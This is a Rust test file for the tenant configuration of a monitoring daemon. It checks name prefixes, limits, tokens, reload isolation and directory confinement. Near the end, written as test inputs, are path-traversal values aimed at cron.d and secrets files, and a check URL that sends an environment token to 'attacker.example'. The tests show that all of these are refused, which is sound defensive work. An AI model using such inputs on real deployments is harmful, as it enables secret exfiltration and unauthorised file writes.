//! `tenants` (SPEC §12), the configuration half: real files in a temporary directory, a tenant's
//! file read as that tenant's (its sections, its defaults, its names prefixed `<tenant>/`), the
//! limits and `programs` enforced at load, and a configuration without tenants unchanged.

use std::path::PathBuf;
use std::time::Duration;

use flowstate_config::dependencies::Dependency;
use flowstate_config::{
    load_with_env, Check, Config, Credential, HostPattern, NotifierKind, Role, TenantLimits,
};

/// The environment these tests see; nothing comes from the real process environment.
fn env(name: &str) -> Option<String> {
    let value = match name {
        "TEAM_A_TOKEN" => "team-a-secret-token",
        "TEAM_A_VIEWER" => "team-a-viewer-token",
        "EMPTY" => "",
        _ => return None,
    };
    Some(value.to_string())
}

/// Writes `files` (path relative to a new temporary directory, text) and gives the directory
/// and the path of the first file, the main one.
fn write(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().expect("temp dir");
    for (name, text) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, text).expect("write");
    }
    let main = dir.path().join(files[0].0);
    (dir, main)
}

fn try_load(files: &[(&str, &str)]) -> (tempfile::TempDir, Result<Config, Vec<String>>) {
    let (dir, main) = write(files);
    let result = load_with_env(&[main], &env)
        .map_err(|e| e.diagnostics.iter().map(ToString::to_string).collect());
    (dir, result)
}

fn load(files: &[(&str, &str)]) -> Config {
    match try_load(files).1 {
        Ok(config) => config,
        Err(errors) => panic!("expected a valid config, got:\n{}", errors.join("\n")),
    }
}

fn errors(files: &[(&str, &str)]) -> Vec<String> {
    match try_load(files).1 {
        Ok(_) => panic!("expected errors, but the config loaded"),
        Err(errors) => errors,
    }
}

fn error(files: &[(&str, &str)]) -> String {
    let mut all = errors(files);
    assert_eq!(all.len(), 1, "expected exactly one error, got {all:#?}");
    all.remove(0)
}

const MAIN: &str = r#"
defaults:
  interval: 5m
  alerts: [ops]
notifiers:
  ops: { type: stdout }
hosts:
  - label: gateway
    url: http://gateway.example.com/
tenants:
  team-a:
    config: tenants/team-a.yaml
    tokens: ["${TEAM_A_TOKEN}", { token: "${TEAM_A_VIEWER}", role: viewer }, { hash: "$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$aGFzaGhhc2hoYXNo", role: admin }]
    limits: { hosts: 5, min_interval: 10s, notifiers: 3 }
"#;

const TEAM_A: &str = r#"
include: [more/*.yaml]
defaults:
  interval: 20s
  alerts: [pager]
notifiers:
  pager: { type: stdout }
  mail: { type: file, path: team-a.log }
hosts:
  - label: api
    url: http://api.team-a.example.com/
    depends_on: [db]
  - label: db
    type: tcp
    address: db.team-a.example.com:5432
    alerts: [mail]
maintenance:
  - { name: nightly, schedule: "0 2 * * *", duration: 1h, timezone: UTC, hosts: [api, "d*"] }
  - { name: everything, start: "2030-01-01T00:00:00Z", end: "2030-01-02T00:00:00Z" }
"#;

const TEAM_A_MORE: &str = r#"
hosts:
  - label: cache
    type: tcp
    address: cache.team-a.example.com:6379
"#;

fn team_a() -> Config {
    load(&[
        ("flowstate.yaml", MAIN),
        ("tenants/team-a.yaml", TEAM_A),
        ("tenants/more/cache.yaml", TEAM_A_MORE),
    ])
}

#[test]
fn a_tenants_items_are_named_after_it_and_know_their_tenant() {
    let config = team_a();
    let labels: Vec<&str> = config.hosts().iter().map(|h| &*h.label).collect();
    assert_eq!(
        labels,
        ["gateway", "team-a/api", "team-a/db", "team-a/cache"]
    );
    let api = config.host("team-a/api").expect("team-a/api");
    assert_eq!(api.tenant.as_deref(), Some("team-a"));
    assert_eq!(
        api.depends_on,
        [Dependency::Host("team-a/db".into())],
        "depends_on names the tenant's own host"
    );
    assert_eq!(config.host("gateway").expect("gateway").tenant, None);
    // The tenant file's include is relative to the tenant file.
    assert!(config.host("team-a/cache").is_some());
    assert!(config
        .sources
        .iter()
        .any(|s| s.ends_with("tenants/more/cache.yaml")));

    let pager = config.notifier("team-a/pager").expect("team-a/pager");
    assert_eq!(pager.tenant.as_deref(), Some("team-a"));
    assert!(config.notifier("pager").is_none());
    assert_eq!(config.notifier("ops").expect("ops").tenant, None);
    let db = config.host("team-a/db").expect("db");
    assert_eq!(
        db.alerts.iter().map(|a| &**a).collect::<Vec<_>>(),
        ["team-a/mail"]
    );
}

#[test]
fn a_tenants_maintenance_windows_cover_its_own_hosts_only() {
    let config = team_a();
    let nightly = config
        .maintenance
        .iter()
        .find(|w| &*w.name == "team-a/nightly")
        .expect("team-a/nightly");
    assert_eq!(nightly.tenant.as_deref(), Some("team-a"));
    let hosts = nightly.hosts.as_ref().expect("hosts");
    assert_eq!(hosts[0], HostPattern::Label("team-a/api".into()));
    assert!(hosts[1].matches("team-a/db"));
    assert!(!hosts[1].matches("db"));
    let everything = config
        .maintenance
        .iter()
        .find(|w| &*w.name == "team-a/everything")
        .expect("team-a/everything");
    let patterns = everything.hosts.as_ref().expect("a pattern for the tenant");
    assert!(patterns.iter().any(|p| p.matches("team-a/cache")));
    assert!(!patterns.iter().any(|p| p.matches("gateway")));
}

#[test]
fn tokens_roles_limits_and_programs_are_read() {
    let config = team_a();
    let tenant = config.tenant("team-a").expect("tenant");
    assert!(tenant.config.ends_with("tenants/team-a.yaml"));
    assert!(!tenant.programs, "programs are off unless allowed");
    assert_eq!(
        tenant.limits,
        TenantLimits {
            hosts: Some(5),
            min_interval: Some(Duration::from_secs(10)),
            notifiers: Some(3),
        }
    );
    let roles: Vec<Role> = tenant.tokens.iter().map(|t| t.role).collect();
    assert_eq!(roles, [Role::Responder, Role::Viewer, Role::Admin]);
    assert_eq!(
        tenant.tokens[0].credential,
        Credential::Token(flowstate_config::Secret::new("team-a-secret-token"))
    );
    assert!(matches!(tenant.tokens[2].credential, Credential::Hash(_)));
    let shown = format!("{config:?}");
    assert!(!shown.contains("team-a-secret-token"), "{shown}");
    assert!(!shown.contains("team-a-viewer-token"));
    assert!(!shown.contains("aGFzaGhhc2hoYXNo"));
}

#[test]
fn a_tenants_defaults_apply_to_its_hosts_only_and_the_main_ones_never_reach_it() {
    let config = team_a();
    let gateway = config.host("gateway").expect("gateway");
    assert_eq!(gateway.interval, Duration::from_secs(300));
    assert_eq!(
        gateway.alerts.iter().map(|a| &**a).collect::<Vec<_>>(),
        ["ops"]
    );
    let api = config.host("team-a/api").expect("api");
    assert_eq!(api.interval, Duration::from_secs(20));
    assert_eq!(
        api.alerts.iter().map(|a| &**a).collect::<Vec<_>>(),
        ["team-a/pager"]
    );
    // Without defaults of its own, a tenant's host has the built-in ones, not the main file's.
    let config = load(&[
        ("flowstate.yaml", MAIN),
        (
            "tenants/team-a.yaml",
            "hosts:\n  - { label: bare, url: http://bare.example.com/ }\n",
        ),
    ]);
    let bare = config.host("team-a/bare").expect("bare");
    assert_eq!(bare.interval, Duration::from_secs(30));
    assert!(bare.alerts.is_empty());
}

#[test]
fn a_tenant_file_may_not_have_the_main_files_sections() {
    let all = errors(&[
        ("flowstate.yaml", MAIN),
        (
            "tenants/team-a.yaml",
            "server: { listen: 127.0.0.1:9900 }\nplugins: {}\ntenants: {}\nstate: { path: /tmp/x.db }\nhosts: []\n",
        ),
    ]);
    assert_eq!(all.len(), 4, "{all:#?}");
    for (error, section) in all.iter().zip(["server", "plugins", "tenants", "state"]) {
        assert!(
            error.contains("tenants/team-a.yaml:"),
            "names the tenant's file: {error}"
        );
        assert!(
            error.contains(&format!(
                "`{section}` belongs in the main file, not in a file of tenant `team-a`"
            )),
            "{error}"
        );
    }
    assert!(all[0].contains("team-a.yaml:1:1: server:"), "{}", all[0]);
}

#[test]
fn an_included_file_of_a_tenant_is_the_tenants_too() {
    let error = error(&[
        ("flowstate.yaml", MAIN),
        ("tenants/team-a.yaml", "include: [extra.yaml]\n"),
        ("tenants/extra.yaml", "cluster: {}\n"),
    ]);
    assert!(
        error.contains("extra.yaml:1:1: cluster: `cluster` belongs in the main file, not in a file of tenant `team-a`"),
        "{error}"
    );
}

#[test]
fn tenants_belong_in_one_main_file() {
    let error = error(&[
        ("flowstate.yaml", "include: [more.yaml]\ntenants: {}\n"),
        ("more.yaml", "tenants: {}\n"),
    ]);
    assert!(error.contains("`tenants` is already set in"), "{error}");
}

#[test]
fn a_slash_in_a_tenants_names_is_an_error() {
    let all = errors(&[
        ("flowstate.yaml", MAIN),
        (
            "tenants/team-a.yaml",
            "notifiers:\n  x/y: { type: stdout }\nhosts:\n  - { label: a/b, url: http://a.example.com/ }\nmaintenance:\n  - { name: m/n, start: \"2030-01-01T00:00:00Z\", end: \"2030-01-02T00:00:00Z\" }\n",
        ),
    ]);
    assert_eq!(all.len(), 3, "{all:#?}");
    assert!(
        all[0].contains(
            "team-a.yaml:2:3: notifiers.x/y: notifier names of a tenant cannot contain `/`"
        ),
        "{}",
        all[0]
    );
    assert!(all[1].contains("team-a.yaml:4:14: hosts[0] (label \"a/b\").label: labels of a tenant cannot contain `/`: tenant `team-a`'s hosts are labelled `team-a/<label>`"), "{}", all[1]);
    assert!(
        all[2].contains(
            "maintenance[0].name: maintenance window names of a tenant cannot contain `/`"
        ),
        "{}",
        all[2]
    );
}

#[test]
fn the_main_files_may_not_use_a_tenants_prefix() {
    let main = format!("{MAIN}\n  other: {{ config: tenants/other.yaml }}\n")
        .replace(
            "hosts:\n  - label: gateway",
            "hosts:\n  - label: team-a/api\n    url: http://x.example.com/\n  - label: gateway",
        )
        .replace(
            "ops: { type: stdout }",
            "ops: { type: stdout }\n  other/pager: { type: stdout }",
        )
        .replace(
            "tenants:",
            "maintenance:\n  - { name: team-a/deploys, hosts: [gateway], start: \"2030-01-01T00:00:00Z\", end: \"2030-01-02T00:00:00Z\" }\ntenants:",
        );
    let all = errors(&[
        ("flowstate.yaml", &main),
        (
            "tenants/team-a.yaml",
            "hosts:\n  - { label: api, url: http://a.example.com/ }\n",
        ),
        (
            "tenants/other.yaml",
            "notifiers:\n  pager: { type: stdout }\n",
        ),
    ]);
    // Reported in the main file, where the fix is; the tenants' files are fine as they are.
    assert_eq!(all.len(), 3, "{all:#?}");
    assert!(all[0].contains("flowstate.yaml:7:3: notifiers.other/pager: notifier `other/pager` starts with `other/`, the prefix of tenant `other`'s items; rename it without that prefix, or move it into the tenant's file as `pager`"), "{}", all[0]);
    assert!(all[1].contains("flowstate.yaml:9:12: hosts[0] (label \"team-a/api\").label: label `team-a/api` starts with `team-a/`"), "{}", all[1]);
    assert!(
        all[2].contains(
            "maintenance[0].name: maintenance window `team-a/deploys` starts with `team-a/`"
        ),
        "{}",
        all[2]
    );
    // A `/` alone is not a tenant's prefix.
    let mut fine = MAIN.replace("label: gateway", "label: dc1/gateway");
    fine.push_str("  other: { config: tenants/other.yaml }\n");
    let config = load(&[
        ("flowstate.yaml", &fine),
        ("tenants/team-a.yaml", TEAM_A),
        ("tenants/other.yaml", "hosts: []\n"),
    ]);
    assert!(config.host("dc1/gateway").is_some());
}

#[test]
fn a_tenants_hosts_alert_and_depend_within_the_tenant() {
    let all = errors(&[
        ("flowstate.yaml", MAIN),
        (
            "tenants/team-a.yaml",
            "notifiers:\n  pager: { type: stdout }\nhosts:\n  - { label: a, url: http://a.example.com/, alerts: [ops], depends_on: [gateway] }\n",
        ),
    ]);
    assert_eq!(all.len(), 2, "{all:#?}");
    assert!(
        all[0].contains("team-a.yaml:4:54: hosts[0] (label \"a\").alerts[0]: no notifier named `ops`; notifiers of tenant `team-a` (a tenant's hosts alert only these): pager"),
        "{}",
        all[0]
    );
    assert!(
        all[1].contains("hosts[0] (label \"a\").depends_on[0]: no host is labelled `gateway`"),
        "{}",
        all[1]
    );
    // The main file's hosts cannot alert a tenant's notifiers either.
    let error = error(&[
        (
            "flowstate.yaml",
            "hosts:\n  - { label: g, url: http://g.example.com/, alerts: [team-a/pager] }\ntenants:\n  team-a: { config: a.yaml }\n",
        ),
        ("a.yaml", "notifiers:\n  pager: { type: stdout }\n"),
    ]);
    assert!(
        error.contains("no notifier named `team-a/pager`"),
        "{error}"
    );
}

#[test]
fn the_main_files_windows_may_name_a_tenants_hosts() {
    let config = load(&[
        (
            "flowstate.yaml",
            "maintenance:\n  - { name: platform, start: \"2030-01-01T00:00:00Z\", end: \"2030-01-02T00:00:00Z\", hosts: [team-a/api] }\ntenants:\n  team-a: { config: a.yaml }\n",
        ),
        ("a.yaml", "hosts:\n  - { label: api, url: http://a.example.com/ }\n"),
    ]);
    assert_eq!(config.maintenance.len(), 1);
}

const LIMITED: &str = r#"
tenants:
  team-a:
    config: a.yaml
    limits: { hosts: 1, min_interval: 10s, notifiers: 1 }
"#;

#[test]
fn too_many_hosts_or_notifiers_are_refused_naming_the_tenant_and_the_limit() {
    let all = errors(&[
        ("flowstate.yaml", LIMITED),
        (
            "a.yaml",
            "notifiers:\n  one: { type: stdout }\n  two: { type: stdout }\nhosts:\n  - { label: a, url: http://a.example.com/, interval: 10s }\n  - { label: b, url: http://b.example.com/, interval: 1m }\n",
        ),
    ]);
    assert_eq!(all.len(), 2, "{all:#?}");
    assert!(
        all[0].contains(
            "a.yaml:3:3: notifiers.two: tenant `team-a` has more notifiers than its limit of 1 ("
        ),
        "{}",
        all[0]
    );
    assert!(
        all[0].contains("flowstate.yaml:5:"),
        "points at the limit: {}",
        all[0]
    );
    assert!(all[0].contains("raise `limits.notifiers` of the tenant in the main configuration"));
    assert!(all[1].contains("a.yaml:6:5: hosts[1] (label \"b\"): tenant `team-a` has more hosts than its limit of 1"), "{}", all[1]);
    assert!(all[1].contains("remove hosts, or raise `limits.hosts`"));
}

#[test]
fn an_interval_below_the_tenants_minimum_is_refused_where_it_is_written() {
    let error = error(&[
        ("flowstate.yaml", &LIMITED.replace("hosts: 1,", "")),
        (
            "a.yaml",
            "hosts:\n  - { label: a, url: http://a.example.com/, interval: 5s }\n",
        ),
    ]);
    assert!(
        error.contains("a.yaml:2:55: hosts[0] (label \"a\").interval: an interval of 5s is below tenant `team-a`'s minimum of 10s"),
        "{error}"
    );
    assert!(error.contains("lower `limits.min_interval`"), "{error}");
    // Inherited from the tenant's defaults: reported once, at the defaults.
    let error = self::error(&[
        ("flowstate.yaml", &LIMITED.replace("hosts: 1,", "")),
        (
            "a.yaml",
            "defaults: { interval: 2s }\nhosts:\n  - { label: a, url: http://a.example.com/ }\n  - { label: b, url: http://b.example.com/ }\n",
        ),
    ]);
    assert!(
        error.contains("a.yaml:1:23: defaults.interval: an interval of 2s"),
        "{error}"
    );
    // The built-in default (30s) is below a minimum of 1m: the host is told to set one.
    let error = self::error(&[
        (
            "flowstate.yaml",
            "tenants:\n  team-a: { config: a.yaml, limits: { min_interval: 1m } }\n",
        ),
        (
            "a.yaml",
            "hosts:\n  - { label: a, url: http://a.example.com/ }\n",
        ),
    ]);
    assert!(
        error.contains("hosts[0] (label \"a\"): an interval of 30s is below"),
        "{error}"
    );
    assert!(error.contains("built-in default interval"), "{error}");
}

const PROGRAMS: &str = r#"
notifiers:
  run: { type: command, command: [/usr/bin/true] }
hosts:
  - { label: disk, type: script, command: [/usr/bin/true] }
"#;

#[test]
fn programs_are_the_main_configurations_decision() {
    let all = errors(&[
        ("flowstate.yaml", "tenants:\n  team-a: { config: a.yaml }\n"),
        ("a.yaml", PROGRAMS),
    ]);
    assert_eq!(all.len(), 2, "{all:#?}");
    assert!(all[0].contains("a.yaml:3:16: notifiers.run.type: tenant `team-a` may not run programs, and a `command` notifier runs one"), "{}", all[0]);
    assert!(all[1].contains("a.yaml:5:26: hosts[0] (label \"disk\").type: tenant `team-a` may not run programs, and a `script` check"), "{}", all[1]);
    assert!(all[1].contains("`programs: true` under `tenants.team-a`"));
    let config = load(&[
        (
            "flowstate.yaml",
            "tenants:\n  team-a: { config: a.yaml, programs: true }\n",
        ),
        ("a.yaml", PROGRAMS),
    ]);
    assert!(matches!(
        config.host("team-a/disk").expect("disk").check,
        Check::Script(_)
    ));
    assert!(matches!(
        config.notifier("team-a/run").expect("run").kind,
        NotifierKind::Command(_)
    ));
}

#[test]
fn tokens_must_be_usable() {
    let all = errors(&[(
        "flowstate.yaml",
        "tenants:\n  team-a:\n    config: a.yaml\n    tokens: [\"${EMPTY}\", { hash: plain }, { token: x, role: owner }, { role: viewer }]\n",
    ), ("a.yaml", "")]);
    assert_eq!(all.len(), 4, "{all:#?}");
    assert!(all[0].contains("the token is empty"), "{}", all[0]);
    assert!(all[1].contains("not an argon2 hash"), "{}", all[1]);
    assert!(
        all[2].contains("unknown role `owner`; use one of viewer, responder, admin"),
        "{}",
        all[2]
    );
    assert!(all[3].contains("missing `token` (or `hash`)"), "{}", all[3]);
    for error in &all {
        assert!(error.contains("flowstate.yaml:4:"), "{error}");
        assert!(!error.contains("team-a-secret-token"));
    }
}

#[test]
fn tenant_names_and_files_are_checked() {
    let error = self::error(&[("flowstate.yaml", "tenants:\n  team a: { config: a.yaml }\n")]);
    assert!(
        error.contains("`team a` is not a tenant name; use letters, digits, `-` and `_`"),
        "{error}"
    );
    let error = self::error(&[("flowstate.yaml", "tenants:\n  team-a: { tokens: [] }\n")]);
    assert!(error.contains("missing `config`"), "{error}");
    let error = self::error(&[(
        "flowstate.yaml",
        "tenants:\n  team-a: { config: nowhere.yaml }\n",
    )]);
    assert!(
        error.contains("flowstate.yaml:2:21: tenants.team-a.config:")
            && error.contains("nowhere.yaml: cannot read this file"),
        "{error}"
    );
    // A tenant's file is its own: not one the main file (or another tenant) reads already.
    let error = self::error(&[
        (
            "flowstate.yaml",
            "include: [a.yaml]\ntenants:\n  team-a: { config: a.yaml }\n",
        ),
        ("a.yaml", "hosts: []\n"),
    ]);
    assert!(
        error.contains("is already read as part of the configuration"),
        "{error}"
    );
}

#[test]
fn errors_in_a_tenants_file_name_that_file_and_place() {
    let error = error(&[
        (
            "flowstate.yaml",
            "tenants:\n  team-a: { config: tenants/a.yaml }\n",
        ),
        (
            "tenants/a.yaml",
            "hosts:\n  - { label: a, url: http://a.example.com/, interval: soon }\n",
        ),
    ]);
    assert!(
        error.contains("tenants/a.yaml:2:55: hosts[0] (label \"a\").interval:"),
        "{error}"
    );
}

#[test]
fn a_configuration_without_tenants_is_as_before() {
    let config = load(&[(
        "flowstate.yaml",
        "notifiers:\n  ops: { type: stdout }\nhosts:\n  - { label: a/b, url: http://a.example.com/, alerts: [ops] }\nmaintenance:\n  - { name: all, start: \"2030-01-01T00:00:00Z\", end: \"2030-01-02T00:00:00Z\" }\n",
    )]);
    assert!(config.tenants.is_empty());
    let host = config.host("a/b").expect("a `/` is fine in the main file");
    assert_eq!(host.tenant, None);
    assert_eq!(config.notifier("ops").expect("ops").tenant, None);
    assert!(
        config.maintenance[0].hosts.is_none(),
        "every host, as before"
    );
    assert_eq!(config.maintenance[0].tenant, None);
}

#[test]
fn a_token_identifies_one_tenant() {
    let all = errors(&[
        (
            "flowstate.yaml",
            "server: { token: \"${TEAM_A_TOKEN}\" }\ntenants:\n  team-a: { config: a.yaml, tokens: [\"${TEAM_A_TOKEN}\"] }\n  team-b: { config: b.yaml, tokens: [\"${TEAM_A_VIEWER}\", { token: \"${TEAM_A_VIEWER}\", role: admin }] }\n  team-c: { config: c.yaml, tokens: [\"${TEAM_A_VIEWER}\"] }\n",
        ),
        ("a.yaml", ""),
        ("b.yaml", ""),
        ("c.yaml", ""),
    ]);
    assert_eq!(all.len(), 3, "{all:#?}");
    assert!(all[0].contains("flowstate.yaml:3:29: tenants.team-a.tokens: a token of tenant `team-a` is also `server.token`"), "{}", all[0]);
    assert!(
        all[1].contains("this token is given twice to this tenant"),
        "{}",
        all[1]
    );
    assert!(
        all[2].contains("this token is also a token of tenant `team-b`"),
        "{}",
        all[2]
    );
    for error in &all {
        assert!(
            !error.contains("team-a-secret-token") && !error.contains("team-a-viewer-token"),
            "{error}"
        );
    }
}

/// A main file with two tenants, for the reload tests: `team-a` and `team-b`.
const TWO_TENANTS: &str = r#"
notifiers:
  ops: { type: stdout }
hosts:
  - { label: gateway, url: http://gateway.example.com/, alerts: [ops] }
tenants:
  team-a: { config: tenants/team-a.yaml, limits: { hosts: 2 } }
  team-b: { config: tenants/team-b.yaml }
"#;

const A_GOOD: &str = "notifiers:\n  pager: { type: stdout }\nhosts:\n  - { label: api, url: http://a.example.com/, alerts: [pager] }\nmaintenance:\n  - { name: deploys, start: \"2030-01-01T00:00:00Z\", end: \"2030-01-02T00:00:00Z\" }\n";
const B_GOOD: &str = "hosts:\n  - { label: web, url: http://b.example.com/ }\n";
const B_EDITED: &str = "hosts:\n  - { label: web, url: http://b.example.com/ }\n  - { label: shop, url: http://shop.b.example.com/ }\n";

/// Loads the files of `dir` as a daemon running `previous` would.
fn reload(main: &std::path::Path, previous: Option<&Config>) -> flowstate_config::Loaded {
    match flowstate_config::load_with_previous_env(&[main.to_path_buf()], previous, &env) {
        Ok(loaded) => loaded,
        Err(e) => panic!("expected the main configuration to load, got:\n{e}"),
    }
}

fn labels(config: &Config) -> Vec<&str> {
    config.hosts().iter().map(|h| &*h.label).collect()
}

#[test]
fn a_broken_tenant_keeps_its_running_part_and_the_others_take_their_edits() {
    let broken_files: [(&str, Option<&str>, &str); 4] = [
        ("a YAML error", Some("hosts:\n  - { label: api, url: [\n"), "team-a.yaml:3:1"),
        (
            "a validation error",
            Some("hosts:\n  - { label: api, url: http://a.example.com/, interval: soon }\n"),
            "team-a.yaml:2:57",
        ),
        (
            "a limit exceeded",
            Some("hosts:\n  - { label: a, url: http://a.example.com/ }\n  - { label: b, url: http://a.example.com/ }\n  - { label: c, url: http://a.example.com/ }\n"),
            "more hosts than its limit of 2",
        ),
        ("a missing file", None, "tenants.team-a.config"),
    ];
    for (what, broken, named) in broken_files {
        let (dir, main) = write(&[
            ("flowstate.yaml", TWO_TENANTS),
            ("tenants/team-a.yaml", A_GOOD),
            ("tenants/team-b.yaml", B_GOOD),
        ]);
        let running = reload(&main, None);
        assert!(
            running.contained.is_empty(),
            "{what}: {:?}",
            running.contained
        );
        let running = running.config;
        let a_file = dir.path().join("tenants/team-a.yaml");
        match broken {
            Some(text) => std::fs::write(&a_file, text).expect("write"),
            None => std::fs::remove_file(&a_file).expect("remove"),
        }
        std::fs::write(dir.path().join("tenants/team-b.yaml"), B_EDITED).expect("write");

        let loaded = reload(&main, Some(&running));
        let config = &loaded.config;
        assert_eq!(
            labels(config),
            ["gateway", "team-a/api", "team-b/web", "team-b/shop"],
            "{what}"
        );
        // Exactly as it runs: a diff finds nothing to restart.
        let kept = config.host("team-a/api").expect("kept host");
        assert!(std::sync::Arc::ptr_eq(kept, &running.hosts()[1]), "{what}");
        assert!(config.notifier("team-a/pager").is_some(), "{what}");
        assert!(
            config
                .maintenance
                .iter()
                .any(|w| &*w.name == "team-a/deploys"),
            "{what}"
        );
        assert_eq!(loaded.contained.len(), 1, "{what}: {:?}", loaded.contained);
        let failure = &loaded.contained[0];
        assert_eq!(&*failure.tenant, "team-a", "{what}");
        assert!(failure.kept, "{what}");
        let shown = failure.error.to_string();
        assert!(shown.contains(named), "{what}: {shown}");
        assert!(shown.contains("team-a.yaml"), "{what}: {shown}");
        // `flowstate check` takes no part of it: the same files fail the strict load.
        let strict = load_with_env(std::slice::from_ref(&main), &env).expect_err(what);
        assert!(strict.to_string().contains(named), "{what}: {strict}");
        // The tenant's file stays watched, also while missing or broken.
        assert!(
            config.include_globs.contains(&a_file),
            "{what}: {:?}",
            config.include_globs
        );

        // Fixed: the tenant's edit applies.
        std::fs::write(&a_file, A_GOOD.replace("label: api", "label: api2")).expect("write");
        let fixed = reload(&main, Some(config));
        assert!(fixed.contained.is_empty(), "{what}");
        assert!(fixed.config.host("team-a/api2").is_some(), "{what}");
        assert!(fixed.config.host("team-a/api").is_none(), "{what}");
    }
}

#[test]
fn at_start_a_broken_tenant_runs_nothing_and_the_others_run() {
    let (_dir, main) = write(&[
        ("flowstate.yaml", TWO_TENANTS),
        ("tenants/team-a.yaml", "hosts: [\n"),
        ("tenants/team-b.yaml", B_GOOD),
    ]);
    let loaded = reload(&main, None);
    assert_eq!(labels(&loaded.config), ["gateway", "team-b/web"]);
    assert!(loaded.config.tenant("team-a").is_some());
    let failed: Vec<&str> = loaded.failed_tenants().collect();
    assert_eq!(failed, ["team-a"]);
    assert!(!loaded.contained[0].kept);
}

#[test]
fn a_broken_main_file_refuses_the_whole_load_with_every_error() {
    let (dir, main) = write(&[
        ("flowstate.yaml", TWO_TENANTS),
        ("tenants/team-a.yaml", A_GOOD),
        ("tenants/team-b.yaml", B_GOOD),
    ]);
    let running = reload(&main, None).config;
    std::fs::write(
        &main,
        TWO_TENANTS.replace("alerts: [ops]", "alerts: [nobody]"),
    )
    .expect("write");
    std::fs::write(dir.path().join("tenants/team-a.yaml"), "hosts: [\n").expect("write");
    let error = flowstate_config::load_with_previous_env(&[main], Some(&running), &env)
        .expect_err("the main file is broken");
    let shown = error.to_string();
    assert!(shown.contains("flowstate.yaml"), "{shown}");
    assert!(shown.contains("nobody"), "{shown}");
    assert!(shown.contains("team-a.yaml"), "{shown}");
}

#[test]
fn a_main_window_may_name_the_running_hosts_of_a_tenant_whose_file_is_broken() {
    let with_window = format!(
        "{TWO_TENANTS}maintenance:\n  - {{ name: platform, start: \"2030-01-01T00:00:00Z\", end: \"2030-01-02T00:00:00Z\", hosts: [team-a/api] }}\n"
    );
    let (dir, main) = write(&[
        ("flowstate.yaml", &with_window),
        ("tenants/team-a.yaml", A_GOOD),
        ("tenants/team-b.yaml", B_GOOD),
    ]);
    let running = reload(&main, None).config;
    std::fs::write(dir.path().join("tenants/team-a.yaml"), "hosts: [\n").expect("write");
    let loaded = reload(&main, Some(&running));
    assert_eq!(loaded.failed_tenants().collect::<Vec<_>>(), ["team-a"]);
    assert!(loaded.config.host("team-a/api").is_some());
    assert!(loaded
        .config
        .maintenance
        .iter()
        .any(|w| &*w.name == "platform"));
}

#[test]
fn a_tenants_files_name_files_under_its_own_directory_only() {
    let all = errors(&[
        (
            "flowstate.yaml",
            "tenants:\n  team-a: { config: tenants/a/team-a.yaml }\n",
        ),
        (
            "tenants/a/team-a.yaml",
            "include: [../../secrets.yaml]\n\
             notifiers:\n  log: { type: file, path: ../../../etc/cron.d/flowstate }\n\
             hosts:\n  - { label: api, url: 'https://api.example.com/', tls: { ca_file: ../../secrets.yaml } }\n",
        ),
        ("secrets.yaml", "hosts:\n  - { label: leaked, url: 'https://x/' }\n"),
    ]);
    assert_eq!(all.len(), 3, "{all:#?}");
    assert!(
        all.iter().any(|e| e.contains("team-a.yaml:1:11: include:")
            && e.contains("secrets.yaml: tenant `team-a`'s files may include only files under their own directory")),
        "{all:#?}"
    );
    assert!(
        all.iter().any(|e| e.contains("notifiers.log.path")
            && e.contains("is outside tenant `team-a`'s directory")),
        "{all:#?}"
    );
    assert!(
        all.iter()
            .any(|e| e.contains("hosts[0] (label \"api\").tls.ca_file")
                && e.contains("move the file there")),
        "{all:#?}"
    );
    // The included file was not read: nothing of it shows.
    assert!(!all.iter().any(|e| e.contains("leaked")), "{all:#?}");
    // Under the tenant's directory, all of it is fine.
    let config = load(&[
        (
            "flowstate.yaml",
            "tenants:\n  team-a: { config: tenants/a/team-a.yaml }\n",
        ),
        (
            "tenants/a/team-a.yaml",
            "include: [hosts/*.yaml]\n\
             notifiers:\n  log: { type: file, path: alerts/events.jsonl }\n",
        ),
        (
            "tenants/a/hosts/api.yaml",
            "hosts:\n  - { label: api, url: 'https://api.example.com/', alerts: [log] }\n",
        ),
    ]);
    assert!(config.host("team-a/api").is_some());
}

/// Found by the audit of issue 21: a tenant's file could read any of the daemon's environment
/// variables (its token, a database password) with `${VAR}` and send it to a server of its
/// own in a check URL. Only what `tenants.<name>.env` lists is looked up now.
#[test]
fn a_tenants_files_read_only_the_environment_variables_listed_for_it() {
    let main = "tenants:\n  team-a: { config: team-a/checks.yaml, env: [TEAM_A_VIEWER] }\n";
    let leaking =
        "hosts:\n  - { label: api, url: \"http://attacker.example/?t=${TEAM_A_TOKEN}\" }\n";
    let message = error(&[("main.yaml", main), ("team-a/checks.yaml", leaking)]);
    assert!(message.contains("checks.yaml:2:"), "{message}");
    assert!(
        message.contains(
            "tenant `team-a` may use only the environment variables listed in `tenants.team-a.env`"
        ),
        "{message}"
    );
    assert!(message.contains("TEAM_A_TOKEN is not one"), "{message}");
    assert!(!message.contains("team-a-secret-token"), "{message}");

    // A default is taken instead of the platform's value: nothing leaks, nothing fails.
    let defaulted =
        "hosts:\n  - { label: api, url: \"http://127.0.0.1:1/?t=${TEAM_A_TOKEN:-none}\" }\n";
    let config = load(&[("main.yaml", main), ("team-a/checks.yaml", defaulted)]);
    let Check::Http(http) = &config.hosts()[0].check else {
        panic!("an HTTP check");
    };
    assert_eq!(http.url.as_str(), "http://127.0.0.1:1/?t=none");

    // A listed variable is looked up as anywhere else.
    let listed = "hosts:\n  - { label: api, url: \"http://127.0.0.1:1/?t=${TEAM_A_VIEWER}\" }\n";
    let config = load(&[("main.yaml", main), ("team-a/checks.yaml", listed)]);
    let Check::Http(http) = &config.hosts()[0].check else {
        panic!("an HTTP check");
    };
    assert_eq!(
        http.url.as_str(),
        "http://127.0.0.1:1/?t=team-a-viewer-token"
    );

    // The main file's own variables are its own business.
    let in_main = "server: { token: \"${TEAM_A_TOKEN}\" }\ntenants:\n  team-a: { config: team-a/checks.yaml }\n";
    load(&[
        ("main.yaml", in_main),
        ("team-a/checks.yaml", "hosts: []\n"),
    ]);

    let bad_name = "tenants:\n  team-a: { config: team-a/checks.yaml, env: [\"1BAD\"] }\n";
    let message = error(&[
        ("main.yaml", bad_name),
        ("team-a/checks.yaml", "hosts: []\n"),
    ]);
    assert!(message.contains("tenants.team-a.env"), "{message}");
    assert!(
        message.contains("not an environment variable name"),
        "{message}"
    );
}
